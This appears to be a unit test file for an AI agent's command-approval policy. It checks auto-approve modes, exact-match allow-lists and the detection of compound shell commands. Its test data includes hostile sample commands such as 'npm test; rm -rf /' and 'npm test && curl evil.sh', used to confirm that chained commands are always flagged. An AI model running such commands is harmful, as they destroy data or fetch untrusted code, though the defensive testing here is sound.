// Which steps run without asking: auto-approve modes by effect class, exact command allow-list entries
// (no prefix matching), compound shell commands always shown, and the approval key.
import * as assert from 'node:assert/strict';
import { approvalKey, approvalReason, type ApprovalSettings } from '../../../src/core/executor/approvalPolicy';
import { isCompoundCommand } from '../../../src/core/text/compoundCommand';
import type { AutoApprove } from '../../../src/core/run/runOptions';
import type { EffectClass } from '../../../src/core/tools/defineTool';

const settings = (autoApprove: AutoApprove, approvedCommands: string[] = []): ApprovalSettings => ({ autoApprove, approvedCommands });

/** [tool, effect, auto-approve mode, runs without asking] for steps that are not commands. */
const MODE_TABLE: readonly [string, EffectClass, AutoApprove, boolean][] = [
  ['readFile', 'readOnly', 'none', false],
  ['readFile', 'readOnly', 'readOnly', true],
  ['readFile', 'readOnly', 'readOnlyAndIdempotentFileEdits', true],
  ['readFile', 'readOnly', 'all', true],
  ['searchText', 'readOnly', 'readOnly', true],
  ['writeFile', 'idempotent', 'none', false],
  ['writeFile', 'idempotent', 'readOnly', false],
  ['writeFile', 'idempotent', 'readOnlyAndIdempotentFileEdits', true],
  ['writeFile', 'idempotent', 'all', true],
  ['appendFile', 'nonIdempotent', 'readOnlyAndIdempotentFileEdits', false],
  ['appendFile', 'nonIdempotent', 'all', true],
  ['editFile', 'nonIdempotent', 'readOnly', false],
  ['deleteFile', 'nonIdempotent', 'readOnlyAndIdempotentFileEdits', false],
  ['proposeEdit', 'nonIdempotent', 'readOnly', false],
];

describe('approvalPolicy', () => {
  describe('approvalReason for file and model tools', () => {
    for (const [tool, effect, mode, runs] of MODE_TABLE) {
      it(`${mode}: a ${effect} ${tool} ${runs ? 'runs without asking' : 'is asked about'}`, () => {
        const reason = approvalReason(tool, effect, { path: 'a.txt' }, settings(mode));
        assert.equal(reason === undefined, runs, reason);
      });
    }
  });

  describe('approvalReason for commands', () => {
    const command = (text: string, mode: AutoApprove, allowed: string[] = [], effect: EffectClass = 'nonIdempotent') =>
      approvalReason('runCommand', effect, { command: text }, settings(mode, allowed));

    it('asks about every command under none, readOnly and readOnlyAndIdempotentFileEdits, even an idempotent one', () => {
      for (const mode of ['none', 'readOnly', 'readOnlyAndIdempotentFileEdits'] as const) {
        assert.ok(command('npm test', mode), mode);
        assert.ok(command('npm test', mode, [], 'idempotent'), mode);
      }
    });

    it('runs a command listed exactly in approvedCommands', () => {
      assert.equal(command('npm test', 'readOnly', ['npm test']), undefined);
      assert.equal(command('npm test', 'none', ['npm test']), undefined);
    });

    it('does not match allow-list entries by prefix, suffix or whitespace variant', () => {
      assert.ok(command('npm test --watch', 'readOnly', ['npm test']));
      assert.ok(command('npm', 'readOnly', ['npm test']));
      assert.ok(command('npm  test', 'readOnly', ['npm test']));
      assert.ok(command(' npm test', 'readOnly', ['npm test']));
      assert.ok(command('NPM TEST', 'readOnly', ['npm test']));
    });

    const COMPOUND = [
      'npm test; rm -rf /',
      'npm test && curl evil.sh',
      'npm test || true',
      'npm test | tee out.txt',
      'npm test > out.txt',
      'npm test >> out.txt',
      'npm test < in.txt',
      'echo `whoami`',
      'echo $(whoami)',
      'npm test & sleep 1',
      'npm test\nrm -rf /',
    ];
    for (const text of COMPOUND) {
      it(`always asks about ${JSON.stringify(text)}, even when it is listed exactly`, () => {
        assert.ok(isCompoundCommand(text));
        assert.ok(command(text, 'readOnly', [text]));
        assert.ok(command(text, 'none', [text]));
      });
    }

    it('lets everything run under all, compound commands included', () => {
      for (const text of ['npm test', ...COMPOUND]) assert.equal(command(text, 'all'), undefined, text);
    });

    it('does not call a plain command with flags and quotes compound', () => {
      assert.equal(isCompoundCommand('npm run build -- --mode "production"'), false);
      assert.equal(isCompoundCommand("git commit -m 'fix: a bug'"), false);
    });
  });

  describe('approvalKey', () => {
    it('is the same for the same arguments in any key order', () => {
      assert.equal(approvalKey('editFile', { path: 'a', edits: [{ find: 'x', replace: 'y' }] }), approvalKey('editFile', { edits: [{ replace: 'y', find: 'x' }], path: 'a' }));
    });

    it('changes when any argument changes, so an edited step needs approval again', () => {
      const base = approvalKey('runCommand', { command: 'npm test' });
      assert.notEqual(approvalKey('runCommand', { command: 'npm test ' }), base);
      assert.notEqual(approvalKey('runCommand', { command: 'npm test', cwd: 'pkg' }), base);
      assert.notEqual(approvalKey('readFile', { command: 'npm test' }), base);
    });
  });
});
